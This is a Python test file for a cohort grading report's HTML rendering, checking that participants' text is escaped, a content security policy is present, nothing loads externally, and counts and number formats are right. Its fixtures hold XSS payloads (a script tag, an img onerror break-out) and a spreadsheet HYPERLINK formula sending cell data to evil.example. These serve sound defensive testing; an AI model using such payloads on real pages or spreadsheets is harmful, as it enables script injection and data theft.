"""The cohort report's page, rendered from its Jinja2 template: escaped, counted, self-contained."""

import html
from html.parser import HTMLParser

import pandas as pd
import pytest

from ocopkit.i18n import _
from ocopkit.trainer import export, report

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"bấm vào đây")'
REASON = 'lỗi </td></tr></table><img src=x onerror="alert(2)">'
CSP = (
    '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
    "style-src 'unsafe-inline'\">"
)
# Every element the report may hold: anything else came from a participant's text.
ELEMENTS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "h1",
    "h2",
    "p",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}


def grade(participant_id, status, score="", reason="", province="Hà Nội", assignment="topic08"):
    """One row of ``export.grade_rows``."""
    return {
        "participant_id": participant_id,
        "name": participant_id,
        "province": province,
        "organisation_type": "HTX",
        "assignment": assignment,
        "score": score,
        "max_score": "10",
        "status": status,
        "reason": reason,
    }


def page_of(rows, items=None, title="Báo cáo"):
    grades = pd.DataFrame(rows, columns=export.COLUMNS)
    items = pd.DataFrame(items or [], columns=export.ITEM_COLUMNS)
    return report.build_report(grades, items, title)


class Elements(HTMLParser):
    """The page's elements with their attributes, and the text of each table cell."""

    def __init__(self):
        super().__init__()
        self.tags, self.cells, self._cell = [], [], None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "td":
            self._cell = ""

    def handle_endtag(self, tag):
        if tag == "td":
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def parsed(page):
    parser = Elements()
    parser.feed(page)
    return parser


@pytest.fixture
def hostile():
    return page_of(
        [
            grade(SCRIPT, "failed", reason=REASON, province=FORMULA),
            grade(FORMULA, "ungraded", reason=SCRIPT),
            grade("lan", "graded", score="8"),
        ],
        title=SCRIPT,
    )


class TestEscaping:
    def test_participants_text_adds_no_element_or_attribute(self, hostile):
        elements = parsed(hostile)
        assert {tag for tag, _attrs in elements.tags} <= ELEMENTS
        assert not [attrs for _tag, attrs in elements.tags if any(name.startswith("on") for name in attrs)]
        assert "<script" not in hostile.lower()

    def test_hostile_text_is_shown_as_written(self, hostile):
        cells = parsed(hostile).cells
        assert SCRIPT in cells and REASON in cells and FORMULA in cells
        assert f"<h1>{html.escape(SCRIPT)}</h1>" in hostile
        assert f"<title>{html.escape(SCRIPT)}</title>" in hostile

    def test_policy_is_in_the_head_unchanged(self, hostile):
        head = hostile.split("</head>")[0]
        assert head.count(CSP) == 1 and hostile.count("Content-Security-Policy") == 1

    def test_nothing_loads_from_outside(self, hostile):
        tags = parsed(hostile).tags
        sources = [attrs["src"] for tag, attrs in tags if tag == "img"]
        assert sources and all(src.startswith("data:image/png;base64,") for src in sources)
        assert not [attrs for _tag, attrs in tags if "href" in attrs]


class TestContent:
    def test_counts_every_status(self):
        page = html.unescape(
            page_of(
                [
                    grade("a", "graded", "10"),
                    grade("b", "failed", reason="hỏng"),
                    grade("c", "ungraded"),
                    grade("d", "missing"),
                ]
            )
        )
        assert f"{_('participants')}: 4" in page
        assert "graded: 1 · late: 0 · failed: 1 · ungraded: 1 · missing: 1" in page
        assert f"<h2>{_('Failed gradings')} (1)</h2>" in page
        assert f"<h2>{_('Handed in, not graded yet')} (1)</h2>" in page

    def test_lists_in_their_own_section(self):
        page = page_of([grade("hong", "failed", reason="tệp hỏng"), grade("moi", "ungraded")])
        failed = page.split(f"<h2>{_('Failed gradings')}")[1].split("<h2>")[0]
        ungraded = page.split(f"<h2>{_('Handed in, not graded yet')}")[1]
        assert "<td>hong</td>" in failed and "<td>tệp hỏng</td>" in failed and "<td>moi</td>" not in failed
        assert "<td>moi</td>" in ungraded

    def test_says_so_when_nothing_to_list(self):
        page = page_of([grade("a", "graded", "10")])
        assert f"<p>{html.escape(_('None.'))}</p>" in page
        assert f"<p>{html.escape(_('No graded items yet.'))}</p>" in page
        assert _("Handed in, not graded yet") not in page

    def test_says_so_when_nothing_is_graded(self):
        page = page_of([grade("a", "missing")])
        assert f"<p>{html.escape(_('No graded submissions yet.'))}</p>" in page

    def test_one_chart_per_section_with_data(self):
        items = [
            {
                "participant_id": "a",
                "province": "Hà Nội",
                "organisation_type": "HTX",
                "assignment": "topic08",
                "notebook": "topic08",
                "cell": "c1",
                "cell_type": "code",
                "score": 1,
                "max_score": 1,
                "passed": 1,
            }
        ]
        page = page_of([grade("a", "graded", "10")], items=items)
        assert page.count("data:image/png;base64,") == 4


COHORT = tuple(grade(f"hv{n:04d}", "graded", "7") for n in range(1200))


class TestNumbers:
    def test_vietnamese_separators(self):
        page = page_of(list(COHORT))
        assert f"{_('participants')}: 1.200" in page and "graded: 1.200" in page

    def test_english_separators(self, english):
        page = page_of(list(COHORT))
        assert "participants: 1,200" in page and "graded: 1,200" in page
